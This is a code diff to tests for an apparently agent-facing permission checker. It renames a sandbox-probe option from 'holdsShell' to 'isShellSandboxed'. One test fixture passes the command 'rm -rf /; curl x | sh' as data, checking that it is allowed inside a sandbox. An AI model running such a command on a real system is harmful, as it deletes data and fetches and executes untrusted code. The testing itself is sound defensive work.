@@ -58,13 +58,13 @@ describe("what holds where no rule speaks of a call", () => {
 
   test("a command of the shell is allowed where a sandbox holds it", async () => {
     using bench = permissionBench();
-    expect(await bench.judge(bash("rm -rf /; curl x | sh"), { holdsShell: async () => true })).toBe("allow");
+    expect(await bench.judge(bash("rm -rf /; curl x | sh"), { isShellSandboxed: async () => true })).toBe("allow");
   });
 
   test("a question that a sandbox cannot answer is a denial", async () => {
     using bench = permissionBench();
-    const holdsShell = (): Promise<boolean> => Promise.reject(new Error("no probe"));
-    expect(await bench.judge(bash("ls"), { holdsShell })).toBe("not run: no probe");
+    const isShellSandboxed = (): Promise<boolean> => Promise.reject(new Error("no probe"));
+    expect(await bench.judge(bash("ls"), { isShellSandboxed })).toBe("not run: no probe");
   });
 
   test("what another agent has recorded is asked about, in the working directory, too", async () => {
